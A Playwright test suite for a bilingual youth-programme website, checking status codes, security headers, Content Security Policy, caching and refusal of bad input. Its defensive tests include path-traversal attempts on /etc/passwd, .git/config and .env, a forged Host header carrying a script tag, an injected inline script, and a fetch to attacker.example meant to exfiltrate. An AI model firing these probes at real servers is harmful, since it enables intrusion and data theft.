import { randomUUID } from "node:crypto";
import { readdirSync, readFileSync } from "node:fs";
import type { APIRequestContext, Page } from "@playwright/test";
import { expect, NOT_FOUND_RESPONSE, test, waitForPageSettled } from "./fixtures.ts";
import { testProductionConfig } from "./support/production-nginx.ts";
import { rawGet, rawRequest } from "./raw-http.ts";
import { expectSecurityHeaders, parseCsp } from "./support/security-headers.ts";
import { FORM_TEXTS, fillContactForm, SUCCESS_TEXT, sampleValues } from "./support/contact-form.ts";
import { VISITED_PAGES } from "./support/languages.ts";
import { testContent } from "#app/test/content.ts";
import { formatMessage } from "#app/lib/format-message.ts";
import { SECURITY_TXT_VALID_DAYS } from "#deploy/lib/security-txt.ts";
import { CSP_REPORTS_PATH, STUB_ORIGIN } from "./support/emailjs-stub-config.ts";
import { DESKTOP_ONLY, PHONE_ONLY } from "./support/widths.ts";

/**
 * The hosting contract, checked against whichever server runs the suite: the Node server by
 * default, the production nginx config with E2E_SERVER=nginx (as in CI). Expected values are
 * written out here rather than read from the generator, so a change to the rules must change
 * this file too.
 */
const behindNginx = process.env.E2E_SERVER === "nginx";
const NGINX_ONLY = "only nginx compresses; run with E2E_SERVER=nginx";

const assets = readdirSync("build/client/assets");
const hashedScript = `/assets/${assets.find((name) => /^entry\.client-[\w-]+\.js$/.test(name))}`;
const hashedFont = `/assets/${assets.find((name) => name.endsWith(".woff2"))}`;

const IMMUTABLE = "public, max-age=31536000, immutable";

async function get(request: APIRequestContext, path: string) {
  return request.get(path, { maxRedirects: 0, failOnStatusCode: false });
}

test.describe("hosting: status codes", DESKTOP_ONLY, () => {
  const cases: [path: string, status: number, location?: RegExp][] = [
    ["/", 301, /^(https?:\/\/[^/]+)?\/k-youth$/],
    ["/k-youth/", 301, /^(https?:\/\/[^/]+)?\/k-youth$/],
    ["/contact-us/", 301, /^(https?:\/\/[^/]+)?\/contact-us$/],
    ["/ms", 301, /^(https?:\/\/[^/]+)?\/ms\/k-youth$/],
    ["/ms/", 301, /^(https?:\/\/[^/]+)?\/ms\/k-youth$/],
    ["/ms/k-youth/", 301, /^(https?:\/\/[^/]+)?\/ms\/k-youth$/],
    ["/ms/k-youth", 200],
    ["/ms/contact-us", 200],
    ["/ms/k-youth.data", 200],
    ["/ms/no-such-page", 404],
    ["/MS/k-youth", 404],
    ["/k-youth", 200],
    ["/contact-us", 200],
    ["/404.html", 404],
    ["/ms/404.html", 404],
    ["/index.html", 301, /^(https?:\/\/[^/]+)?\/$/],
    ["/k-youth/index.html", 301, /^(https?:\/\/[^/]+)?\/k-youth$/],
    ["/k-youth/index.html.gz", 404],
    ["/favicon.svg", 200],
    ["/_.data", 200],
    [hashedScript, 200],
    ["/no-such-page", 404],
    ["/404", 404],
    ["/k-youth/no-such-section", 404],
    ["/assets/no-such-file-abc123.js", 404],
  ];
  for (const [path, status, location] of cases) {
    test(`${path} answers ${status}`, async ({ request }) => {
      const response = await get(request, path);
      expect(response.status()).toBe(status);
      if (location) expect(response.headers().location).toMatch(location);
      if (status === 404) {
        const notFound = testContent("ui", path.startsWith("/ms/") ? "ms" : "en").notFound.title;
        expect(await response.text()).toContain(notFound);
      }
    });
  }
});

test.describe("hosting: the server", DESKTOP_ONLY, () => {
  test("the suite talks to the server it means to", async ({ request }) => {
    // A server left running on the port would otherwise be reused silently outside CI.
    const server = (await get(request, "/k-youth")).headers().server ?? "";
    if (behindNginx) expect(server).toBe("nginx");
    else expect(server).not.toMatch(/nginx/);
  });

  test("the production server config deploy/nginx/k-youth.conf passes nginx -t", async () => {
    test.skip(!behindNginx, "needs nginx; run with E2E_SERVER=nginx");
    const { ok, output } = await testProductionConfig();
    expect(output).toContain("test is successful");
    expect(ok).toBe(true);
  });
});

test.describe("hosting: headers", DESKTOP_ONLY, () => {
  const answers: [label: string, path: string][] = [
    ["a page", "/k-youth"],
    ["the contact page", "/contact-us"],
    ["a hashed script", hashedScript],
    ["the font", hashedFont],
    ["the favicon", "/favicon.svg"],
    ["a 404", "/no-such-page"],
    ["a redirect", "/"],
  ];
  for (const [label, path] of answers) {
    test(`${label} (${path}) carries every security header`, async ({ request }) => {
      const response = await get(request, path);
      expectSecurityHeaders(response.headers(), label);
    });
  }

  test("violations are reported where the build says, and nowhere by default", async ({
    request,
  }) => {
    // The test build names the stub (tests/e2e/support/build.ts); build/no-provider names none.
    const headers = (await get(request, "/k-youth")).headers();
    expect(headers["reporting-endpoints"]).toBe(`csp-endpoint="${STUB_ORIGIN}${CSP_REPORTS_PATH}"`);
    const policy = parseCsp(headers["content-security-policy"] ?? "");
    expect(policy["report-to"]).toEqual(["csp-endpoint"]);
    expect(policy["report-uri"]).toEqual([`${STUB_ORIGIN}${CSP_REPORTS_PATH}`]);

    const { securityHeaders } = JSON.parse(
      readFileSync("build/no-provider/hosting/headers.json", "utf8"),
    ) as { securityHeaders: [string, string][] };
    const unconfigured = Object.fromEntries(securityHeaders);
    expect(unconfigured["Reporting-Endpoints"]).toBeUndefined();
    expect(unconfigured["Content-Security-Policy"]).not.toMatch(/report-(to|uri)/);
  });

  test("a refused method carries them too, and says what is allowed", async ({ request }) => {
    const response = await request.post("/k-youth", { maxRedirects: 0, failOnStatusCode: false });
    expect(response.status()).toBe(405);
    expect(response.headers().allow).toBe("GET, HEAD");
    expectSecurityHeaders(response.headers(), "a 405");
  });

  test("every page gets the same policy", async ({ request }) => {
    const policies = new Set<string>();
    for (const path of [
      ...VISITED_PAGES.map((visited) => visited.path),
      "/404.html",
      hashedScript,
    ]) {
      policies.add((await get(request, path)).headers()["content-security-policy"] ?? "");
    }
    expect(policies.size).toBe(1);
  });
});

test.describe("hosting: security.txt", DESKTOP_ONLY, () => {
  test("says where to report a problem, in which languages, until half a year from the build", async ({
    request,
  }) => {
    const response = await get(request, "/.well-known/security.txt");
    expect(response.status()).toBe(200);
    expect(response.headers()["content-type"]).toBe("text/plain; charset=utf-8");
    expectSecurityHeaders(response.headers(), "security.txt");
    const fields = Object.fromEntries(
      (await response.text())
        .trim()
        .split("\n")
        .map((line) => line.split(/: (.*)/).slice(0, 2)),
    );
    const { contact, origin } = testContent("site");
    expect(fields).toEqual({
      Contact: `mailto:${contact.email.address}`,
      Expires: expect.stringMatching(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}Z$/),
      "Preferred-Languages": "en, ms",
      Canonical: `${origin}/.well-known/security.txt`,
    });
    const days = (Date.parse(fields.Expires ?? "") - Date.now()) / 86_400_000;
    expect(days).toBeGreaterThan(SECURITY_TXT_VALID_DAYS - 30);
    expect(days).toBeLessThanOrEqual(SECURITY_TXT_VALID_DAYS);
  });
});

test.describe("hosting: caching", DESKTOP_ONLY, () => {
  const cases: [label: string, path: string, cacheControl: string][] = [
    ["a hashed script", hashedScript, IMMUTABLE],
    ["the font", hashedFont, IMMUTABLE],
    ["a page", "/k-youth", "no-cache"],
    ["the contact page", "/contact-us", "no-cache"],
    ["404.html", "/404.html", "no-cache"],
    ["an unknown path", "/no-such-page", "no-cache"],
    ["a missing asset", "/assets/no-such-file-abc123.js", "no-cache"],
    ["the favicon (not hashed)", "/favicon.svg", "no-cache"],
    ["the prerendered data", "/_.data", "no-cache"],
    ["the redirect", "/", "no-cache"],
  ];
  for (const [label, path, cacheControl] of cases) {
    test(`${label} is served with Cache-Control: ${cacheControl}`, async ({ request }) => {
      const response = await get(request, path);
      expect(response.headers()["cache-control"]).toBe(cacheControl);
    });
  }

  test("types are exact, so nosniff never blocks a file", async ({ request }) => {
    const types: [string, RegExp][] = [
      ["/k-youth", /^text\/html; charset=utf-8$/],
      [hashedScript, /^(text|application)\/javascript(; charset=utf-8)?$/],
      [hashedFont, /^font\/woff2$/],
      ["/favicon.svg", /^image\/svg\+xml(; charset=utf-8)?$/],
      ["/icons/icon-192.png", /^image\/png$/],
      ["/apple-touch-icon.png", /^image\/png$/],
      ["/share/k-youth.png", /^image\/png$/],
      ["/manifest.webmanifest", /^application\/manifest\+json(; charset=utf-8)?$/],
      ["/ms/manifest.webmanifest", /^application\/manifest\+json(; charset=utf-8)?$/],
      ["/sitemap.xml", /^application\/xml(; charset=utf-8)?$/],
      ["/robots.txt", /^text\/plain(; charset=utf-8)?$/],
    ];
    for (const [path, type] of types) {
      expect((await get(request, path)).headers()["content-type"], path).toMatch(type);
    }
  });

  test("pages and scripts are gzipped, with Vary", async ({ request }) => {
    test.skip(!behindNginx, NGINX_ONLY);
    for (const path of ["/k-youth", hashedScript]) {
      const response = await request.get(path, { headers: { "Accept-Encoding": "gzip" } });
      expect(response.headers()["content-encoding"], path).toBe("gzip");
      expect(response.headers().vary, path).toMatch(/Accept-Encoding/i);
    }
  });

  test("a page revalidates with a 304", async ({ request }) => {
    test.skip(!behindNginx, "serve-handler sends no ETag; nginx does");
    const first = await request.get("/k-youth");
    const etag = first.headers().etag;
    expect(etag).toBeTruthy();
    const again = await request.get("/k-youth", { headers: { "If-None-Match": etag ?? "" } });
    expect(again.status()).toBe(304);
  });
});

/**
 * Every state a visitor can put a page in, loaded in Chromium under the served policy. A blocked
 * script, style, font, request or frame shows as a `securitypolicyviolation` event (and a console
 * error, which the fixture also fails on). New states (search, lightbox, form sent, map loaded)
 * go in this list.
 */
interface PageState {
  name: string;
  path: string;
  mobileOnly?: boolean;
  notFound?: boolean;
  enter?: (page: Page) => Promise<void>;
}

const ui = testContent("ui");
const programme = testContent("programme");
const { tabs: faqTabs } = testContent("faq");
const searchTexts = testContent("search");
/** The FAQ tab that holds the question with this id, and the tab with this slug. */
const faqTabOf = (questionId: string) =>
  faqTabs.find((tab) => tab.items.some((item) => item.id === questionId))?.label ?? "";
const faqTab = (slug: string) => faqTabs.find((tab) => tab.slug === slug)?.label ?? "";

const STATES: PageState[] = [
  { name: "/ redirecting", path: "/" },
  { name: "the programme page", path: "/k-youth" },
  { name: "the contact page", path: "/contact-us" },
  { name: "the not-found page", path: "/no-such-page", notFound: true },
  {
    name: "the mobile menu open",
    path: "/k-youth",
    mobileOnly: true,
    async enter(page) {
      await page.getByRole("button", { name: ui.header.openMenu }).click();
      await expect(page.getByRole("dialog", { name: ui.header.menuTitle })).toBeVisible();
    },
  },
  {
    name: "a lightbox open",
    path: "/k-youth#program-framework",
    async enter(page) {
      await page.getByRole("button", { name: programme.framework.openLabel }).click();
      await expect(page.getByRole("dialog")).toBeVisible();
    },
  },
  {
    name: "a FAQ answer opened from its link, then another tab",
    path: "/k-youth#faq-what-is-ojt",
    async enter(page) {
      await expect(page.getByRole("tab", { selected: true })).toContainText(
        faqTabOf("what-is-ojt"),
      );
      await page.getByRole("tab", { name: faqTab("about-the-course") }).click();
      await expect(page).toHaveURL(/#faq-about-the-course$/);
    },
  },
  {
    name: "the testimonial carousel moved",
    path: "/k-youth#testimonials",
    async enter(page) {
      const { testimonials } = programme;
      await page.getByRole("button", { name: testimonials.next }).click();
      const second = formatMessage(testimonials.dotLabel, {
        index: 2,
        total: testimonials.items.length,
      });
      await expect(page.getByRole("button", { name: second, exact: true })).toHaveAttribute(
        "aria-current",
        "true",
      );
    },
  },
  {
    name: "a contact message sent",
    path: "/contact-us",
    async enter(page) {
      await fillContactForm(page, sampleValues(`csp.${randomUUID().slice(0, 8)}@example.com`));
      await page.getByRole("button", { name: FORM_TEXTS.submit }).click();
      await expect(page.getByText(SUCCESS_TEXT)).toBeVisible();
    },
  },
  {
    name: "the interactive map loaded",
    path: "/contact-us",
    async enter(page) {
      // No internet in tests: a stand-in answers for Google, after the policy allowed the frame.
      await page.route("https://www.google.com/**", (route) =>
        route.fulfill({
          contentType: "text/html",
          body: "<!doctype html><title>Map</title><p>Map</p>",
        }),
      );
      await page.getByRole("button", { name: testContent("contact").map.show }).click();
      await expect(page.locator("iframe")).toBeVisible();
      await expect(page.locator("iframe").contentFrame().getByText("Map")).toBeVisible();
    },
  },
  {
    name: "the search dialog open with results, then one followed",
    path: "/contact-us",
    async enter(page) {
      await page
        .getByRole("banner")
        .getByRole("button", { name: searchTexts.button, exact: true })
        .click();
      const dialog = page.getByRole("dialog", { name: searchTexts.title });
      await dialog.getByRole("combobox").fill("allowance");
      await expect(dialog.getByRole("option").first()).toContainText("allowance");
      await page.keyboard.press("Enter");
      await expect(page).toHaveURL(/\/k-youth#faq-allowance$/);
    },
  },
  {
    name: "a client-side navigation with its data request",
    path: "/no-such-page",
    notFound: true,
    async enter(page) {
      await page.getByRole("link", { name: ui.notFound.backHome }).click();
      await expect(page).toHaveURL(/\/k-youth$/);
    },
  },
];

async function recordViolations(page: Page) {
  await page.addInitScript(() => {
    const seen: string[] = [];
    Object.assign(window, { __cspViolations: seen });
    document.addEventListener("securitypolicyviolation", (event) => {
      seen.push(`${event.violatedDirective} blocked ${event.blockedURI || "inline"}`);
    });
  });
}

async function violations(page: Page) {
  return page.evaluate(
    () => (window as unknown as { __cspViolations?: string[] }).__cspViolations ?? [],
  );
}

test.describe("hosting: no CSP violation in Chromium", () => {
  test.use({ allowedConsoleErrors: [NOT_FOUND_RESPONSE] });

  for (const state of STATES) {
    test(state.name, state.mobileOnly ? PHONE_ONLY : {}, async ({ page }) => {
      await recordViolations(page);
      const response = await page.goto(state.path);
      expect(response?.status()).toBe(state.notFound ? 404 : 200);
      expect(response?.headers()["content-security-policy"]).toBeTruthy();
      await waitForPageSettled(page);
      await state.enter?.(page);
      // Hydration ran: the scripts the policy allows by hash did execute.
      await expect
        .poll(() => page.evaluate(() => "__reactRouterRouteModules" in window))
        .toBe(true);
      expect(await violations(page)).toEqual([]);
    });
  }

  test.describe("with JavaScript off", () => {
    test.use({ javaScriptEnabled: false });
    for (const { path, ui } of VISITED_PAGES) {
      test(`${path} applies its noscript style`, async ({ page }) => {
        await page.goto(path);
        // The <noscript><style> that hides JavaScript-only controls is allowed by its hash.
        await expect(page.getByRole("button", { name: ui.header.openMenu })).toBeHidden();
      });
    }
  });
});

test.describe("hosting: the policy bites", () => {
  test.use({ allowedConsoleErrors: [/Content Security Policy/] });

  test("an injected inline script does not run", async ({ page }) => {
    await recordViolations(page);
    await page.goto("/k-youth");
    await page.evaluate(() => {
      const script = document.createElement("script");
      script.textContent = "window.__injected = true";
      document.head.append(script);
    });
    expect(await page.evaluate(() => "__injected" in window)).toBe(false);
    await expect.poll(() => violations(page)).toContainEqual(expect.stringMatching(/^script-src/));
  });

  test("a request to an origin outside connect-src is refused", async ({ page }) => {
    await recordViolations(page);
    await page.goto("/k-youth");
    const outcome = await page.evaluate(() =>
      fetch("https://attacker.example/collect").then(
        () => "sent",
        () => "blocked",
      ),
    );
    expect(outcome).toBe("blocked");
    await expect.poll(() => violations(page)).toContainEqual(expect.stringMatching(/^connect-src/));
  });
});

test.describe("hosting: bad input", DESKTOP_ONLY, () => {
  // Text that would show a file from outside build/client had been served.
  const LEAKS = [/"name": "k-youth-website"/, /root:x:0:0/, /\[core\]/, /react-router\.config/];

  function expectSafe(status: number, body: string, label: string) {
    expect(status, `${label}: an answer`).toBeGreaterThanOrEqual(200);
    expect(status, `${label}: never a server error`).toBeLessThan(500);
    for (const leak of LEAKS) expect(body, `${label} leaked a file`).not.toMatch(leak);
  }

  const refused: [label: string, path: string][] = [
    ["a path above the root", "/../package.json"],
    ["a deeper climb", "/../../../../etc/passwd"],
    ["an encoded climb", "/%2e%2e/%2e%2e/etc/passwd"],
    ["an encoded climb from assets", "/assets/%2e%2e/%2e%2e/package.json"],
    ["an encoded slash climb", "/assets/..%2f..%2fpackage.json"],
    ["a backslash climb", "/..%5c..%5cpackage.json"],
    ["a NUL byte", "/k-youth%00.html"],
    ["malformed percent-encoding", "/%E0%A4%A"],
    ["the project's package.json", "/package.json"],
    ["the server build", "/build/server/index.js"],
    ["git's config", "/.git/config"],
    ["a dotfile", "/.env"],
    ["a dot-folder", "/.well-known/../.git/HEAD"],
    ["a source map", `${hashedScript}.map`],
    ["Netlify's _headers", "/_headers"],
    ["Netlify's _redirects", "/_redirects"],
    ["a very long URL", `/${"a".repeat(10_000)}`],
    ["a long path of segments", `/${"very-long-segment/".repeat(300)}`],
  ];
  for (const [label, path] of refused) {
    test(`${label} gets a 4xx and nothing from outside the build`, async ({ baseURL }) => {
      const response = await rawGet(baseURL ?? "", path);
      expectSafe(response.status, response.body, label);
      expect(response.status, label).toBeGreaterThanOrEqual(400);
    });
  }

  for (const method of ["POST", "PUT", "DELETE", "PATCH", "OPTIONS"]) {
    test(`${method} to a page is refused with 405`, async ({ baseURL }) => {
      const response = await rawRequest(
        baseURL ?? "",
        `${method} /contact-us HTTP/1.1\r\nHost: ${new URL(baseURL ?? "").host}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 9\r\nConnection: close`,
        "name=test",
      );
      expect(response.status).toBe(405);
      expect(response.headers.allow).toBe("GET, HEAD");
    });
  }

  test("TRACE is refused", async ({ baseURL }) => {
    const response = await rawRequest(
      baseURL ?? "",
      `TRACE /k-youth HTTP/1.1\r\nHost: ${new URL(baseURL ?? "").host}\r\nConnection: close`,
    );
    expect(response.status).toBeGreaterThanOrEqual(400);
    expect(response.status).toBeLessThan(500);
  });

  const hosts: [label: string, host: string][] = [
    ["another site's name", "evil.example"],
    ["markup", "<script>alert(1)</script>"],
    ["a path", "../../etc"],
    ["a very long name", "a".repeat(5_000)],
    ["a bad port", "127.0.0.1:99999"],
  ];
  for (const [label, host] of hosts) {
    test(`a Host header with ${label} is never reflected or a server error`, async ({
      baseURL,
    }) => {
      for (const path of ["/", "/k-youth", "/no-such-page"]) {
        const response = await rawGet(baseURL ?? "", path, host);
        expectSafe(response.status, response.body, `Host: ${label} on ${path}`);
        expect(response.headers.location ?? "", "redirects stay on this site").not.toContain(
          host.slice(0, 20),
        );
      }
    });
  }

  test("a request without a Host header gets a 4xx", async ({ baseURL }) => {
    const response = await rawRequest(baseURL ?? "", "GET /k-youth HTTP/1.1\r\nConnection: close");
    // Node answers 400; nginx's 400 becomes the not-found page like every malformed request.
    expect([400, 404]).toContain(response.status);
  });
});
